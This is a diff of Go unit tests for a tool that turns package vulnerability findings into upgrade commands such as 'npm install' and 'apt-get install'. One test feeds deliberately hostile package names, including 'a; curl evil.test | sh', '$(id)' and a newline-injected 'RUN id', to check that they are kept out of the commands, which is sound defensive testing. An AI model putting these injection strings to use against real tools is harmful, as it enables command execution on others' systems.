@@ -70,6 +70,58 @@ func TestPlanLeavesWaivedAlone(t *testing.T) {
 	}
 }
 
+// Of a result's findings, those that are waived need no change, unless the rule takes no waivers.
+func TestPlanLeavesWaivedFindingsAlone(t *testing.T) {
+	f := &engine.Facts{Findings: []engine.Finding{finding("1", "npm", "npm", "a", "1.0.0", "b", "2.0.0"), finding("2", "npm", "npm", "c", "1.0.0", "b", "1.5.0")}}
+	f.Findings[0].WaivedBy = "w1"
+	for waivable, want := range map[bool]string{true: "npm install c@1.5.0", false: "npm install a@2.0.0 c@1.5.0"} {
+		rules := []engine.RuleResult{{ID: "r", Status: engine.StatusDeny, Waivable: waivable, Results: []engine.Result{{Findings: []string{"1", "2"}}}}}
+		if got := Plan(f, rules); len(got) != 1 || got[0].Command != want {
+			t.Errorf("waivable %v: %+v, want %s", waivable, got, want)
+		}
+	}
+}
+
+// A command is there to be pasted: nothing from an image or an advisory gets into it that a shell would take for more than a word.
+func TestPlanWritesPlainWords(t *testing.T) {
+	for _, word := range []string{"a; curl evil.test | sh", "$(id)", "`id`", "a b", "a'b", "--unsafe-perm", "-g", "a\nRUN id", "a>b", "a&b", "", "\x1b[31m", "a\\b", "é", "~root", "a*", "{a,b}", "#a", "!1"} {
+		bad := finding("2", "npm", "npm", word, "1.0.0", "b", "2.0.0")
+		binary := finding("3", "deb", "Debian:12", "src", "1", "b", "2")
+		binary.Package.Binaries = []string{"ok", word}
+		f := &engine.Facts{Findings: []engine.Finding{finding("1", "npm", "npm", "@scope/good.js", "1.0.0", "b", "2.0.0"), bad, binary}}
+		got := Plan(f, denying("1", "2", "3"))
+		if len(got) != 1 || got[0].Command != "npm install @scope/good.js@2.0.0" || fmt.Sprint(got[0].Findings) != "[1]" {
+			t.Errorf("%q: %+v", word, got)
+		}
+	}
+	for _, word := range []string{"libstdc++6", "@types/node", "golang.org/x/net", "ruamel.yaml.clib", "2:8.39-15~deb12u1", "v1.2.3-0.20230101-abc+incompatible", "gopkg.in/yaml.v2", "_x"} {
+		if !writable(&engine.Finding{Package: engine.FoundPackage{Name: word}}, word) {
+			t.Errorf("%s is a good name", word)
+		}
+	}
+}
+
+// A package that is installed twice is asked for once, and a source package without known binaries by its own name.
+func TestPlanNamesAPackageOnce(t *testing.T) {
+	bare := finding("4", "deb", "Debian:12", "curl", "1", "b", "2")
+	bare.Package.Binaries = nil
+	f := &engine.Facts{
+		Findings: []engine.Finding{
+			finding("1", "golang", "Go", "golang.org/x/net", "v0.9.0", "b", "0.10.0"), finding("2", "golang", "Go", "golang.org/x/net", "v0.7.0", "b", "0.9.0"),
+			finding("3", "golang", "Go", "stdlib", "1.9.1", "b", "1.10.0"), finding("5", "golang", "Go", "stdlib", "1.21.1", "b", "1.21.3"), bare,
+		},
+		Packages: []engine.Package{{Type: "deb", Layer: "b", Source: engine.Source{Name: "curl"}}, {Type: "deb", Layer: "b", Source: engine.Source{Name: "x"}}},
+	}
+	var got []string
+	for _, c := range Plan(f, denying("1", "2", "3", "4", "5")) {
+		got = append(got, fmt.Sprintf("%s (%d)", c.Command, len(c.Upgrades)))
+	}
+	want := []string{"go get golang.org/x/net@v0.10.0; build with Go 1.21.3 (4)", "RUN apt-get update && apt-get install -y --only-upgrade curl (1)"}
+	if diff := cmp.Diff(want, got); diff != "" {
+		t.Errorf("(-want +got):\n%s", diff)
+	}
+}
+
 // Every upgrade goes up, and reaches a fix of each finding that its change clears. The order of the findings changes nothing.
 func TestPlanReachesWhatItClears(t *testing.T) {
 	r := rand.New(rand.NewPCG(1, 2))
